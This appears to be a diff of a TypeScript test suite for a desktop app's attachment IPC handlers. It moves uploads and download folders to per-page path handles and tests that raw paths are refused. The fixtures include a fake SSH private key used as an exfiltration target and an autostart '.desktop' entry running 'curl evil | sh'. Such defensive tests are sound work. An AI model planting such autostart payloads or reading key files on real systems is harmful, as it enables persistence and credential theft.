@@ -7,9 +7,10 @@ import { attachmentsChannels } from '../../../shared/ipc/channels/attachments';
 import { createDownloadManager } from '../../attachments/download-manager';
 import { startAttachmentsHarness } from '../../attachments/test-harness';
 import type { AttachmentsHarness } from '../../attachments/test-harness';
+import { createPathHandles } from '../../security/path-handles';
 import { createAttachmentsHandlers, forwardAttachmentsEvents } from './attachments';
 
-const ctx = { senderUrl: 'app://renderer' };
+const ctx = { senderUrl: 'app://renderer', senderId: '7' };
 let h: AttachmentsHarness;
 beforeAll(async () => {
   h = await startAttachmentsHarness();
@@ -28,7 +29,9 @@ async function setup() {
     listAttachments: (id) => h.client.sessions.attachments(id),
   });
   const calls: string[] = [];
+  const handles = createPathHandles();
   const handlers = createAttachmentsHandlers({
+    handles,
     manager,
     getClient: () => h.client,
     getSettings: () => ({ attachmentsFolder: null }),
@@ -49,7 +52,7 @@ async function setup() {
       },
     },
   });
-  return { home, sessionId, manager, calls, handlers };
+  return { home, sessionId, manager, calls, handlers, handles };
 }
 
 describe('attachments IPC handlers', () => {
@@ -122,29 +125,65 @@ describe('attachments IPC handlers', () => {
     expect(calls).toEqual([`open ${path}`]);
   });
 
-  it('chooses folders, uploads, forwards events, and the contract refuses bad payloads', async () => {
-    const { sessionId, manager, calls, handlers } = await setup();
-    expect(await handlers['attachments:chooseFolder'](undefined, ctx)).toBe('/picked');
+  it('chooses folders (as handles), uploads by handle, forwards events, and the contract refuses bad payloads', async () => {
+    const { sessionId, manager, calls, handlers, handles } = await setup();
+    const picked = await handlers['attachments:chooseFolder'](undefined, ctx);
+    expect(picked).toEqual({ handle: expect.stringMatching(/^folder-[A-Za-z0-9_-]{22}$/), path: '/picked' });
     expect(calls).toEqual(['choose 选择附件保存文件夹']);
 
     const file = join(await h.tempDir(), 'log.txt');
     await writeFile(file, 'log');
-    const [uploaded] = await handlers['attachments:upload']({ paths: [file] }, ctx);
+    const handle = handles.issue('7', 'file', file);
+    const [uploaded] = await handlers['attachments:upload']({ files: [handle] }, ctx);
     expect(uploaded).toMatchObject({ name: 'log.txt', bytes: 3 });
     // What the upload returned is kept as is (it goes into attachment_urls): the sim gives its web-app link.
     expect(uploaded?.url.startsWith(`${h.sim.webAppOrigin}/attachments/`)).toBe(true);
+    // Sent: the handle has done its job and names nothing any more.
+    await expect(handlers['attachments:upload']({ files: [handle] }, ctx)).rejects.toMatchObject({ code: 'VALIDATION' });
 
     const events: string[] = [];
     const off = forwardAttachmentsEvents(manager, (event) => events.push(event));
     const a = h.sim.control.addSessionAttachment(sessionId, { name: 'x.txt', text: 'x' });
-    await handlers['attachments:download']({ sessionId, attachmentId: a.attachment_id, dir: await h.tempDir() }, ctx);
+    const into = await h.tempDir();
+    const { dir } = await handlers['attachments:download']({ sessionId, attachmentId: a.attachment_id, folder: handles.issue('7', 'folder', into) }, ctx);
+    expect(dir).toBe(into);
     await manager.settled();
     off();
     expect(events).toContain('attachments:jobs');
 
-    await expect(handlers['attachments:download']({ sessionId, attachmentId: a.attachment_id, dir: 'relative' }, ctx)).rejects.toMatchObject({ code: 'ATTACHMENT_FOLDER' });
     expect(attachmentsChannels['attachments:download'].request.safeParse({ sessionId, attachmentId: 'x', url: 'https://evil' }).success).toBe(false);
-    expect(attachmentsChannels['attachments:upload'].request.safeParse({ paths: [] }).success).toBe(false);
+    expect(attachmentsChannels['attachments:upload'].request.safeParse({ files: [] }).success).toBe(false);
     expect(attachmentsChannels['attachments:cancel'].request.safeParse({ jobId: '' }).success).toBe(false);
+  });
+
+  it('refuses a raw path for an upload or a download folder with VALIDATION, sending and writing nothing (issue #11 point 5)', async () => {
+    const { sessionId, manager, handlers, handles } = await setup();
+    const secret = join(await h.tempDir(), 'id_rsa');
+    await writeFile(secret, '-----BEGIN OPENSSH PRIVATE KEY-----\nnot really\n');
+    const uploadsBefore = h.sim.control.getRequests().filter((r) => r.method === 'POST').length;
+
+    const refusedUpload = await Promise.resolve(handlers['attachments:upload']({ files: [secret] }, ctx)).catch((e: unknown) => e);
+    expect(refusedUpload).toMatchObject({
+      code: 'VALIDATION',
+      details: { clientSide: true, fieldErrors: [{ field: 'files.0', message: translate('en', 'security.handle.file.rawPath') }] },
+    });
+    // A handle issued to another page (webContents) is refused the same way, and so is one of the wrong kind.
+    const elsewhere = handles.issue('8', 'file', secret);
+    await expect(handlers['attachments:upload']({ files: [elsewhere] }, ctx)).rejects.toMatchObject({ code: 'VALIDATION' });
+    await expect(handlers['attachments:upload']({ files: [handles.issue('7', 'folder', secret)] }, ctx)).rejects.toMatchObject({ code: 'VALIDATION' });
+    expect(h.sim.control.getRequests().filter((r) => r.method === 'POST')).toHaveLength(uploadsBefore);
+
+    const autostart = join(await h.tempDir(), '.config', 'autostart');
+    const a = h.sim.control.addSessionAttachment(sessionId, { name: 'evil.desktop', text: '[Desktop Entry]\nExec=sh -c "curl evil | sh"\n' });
+    const calls: (() => unknown)[] = [
+      () => handlers['attachments:download']({ sessionId, attachmentId: a.attachment_id, folder: autostart }, ctx),
+      () => handlers['attachments:downloadAll']({ sessionId, folder: autostart }, ctx),
+      () => handlers['attachments:download']({ sessionId, attachmentId: a.attachment_id, folder: 'relative' }, ctx),
+    ];
+    for (const call of calls) {
+      await expect(Promise.resolve().then(call)).rejects.toMatchObject({ code: 'VALIDATION', details: { fieldErrors: [{ field: 'folder' }] } });
+    }
+    await manager.settled();
+    expect(manager.jobs()).toEqual([]);
   });
 });
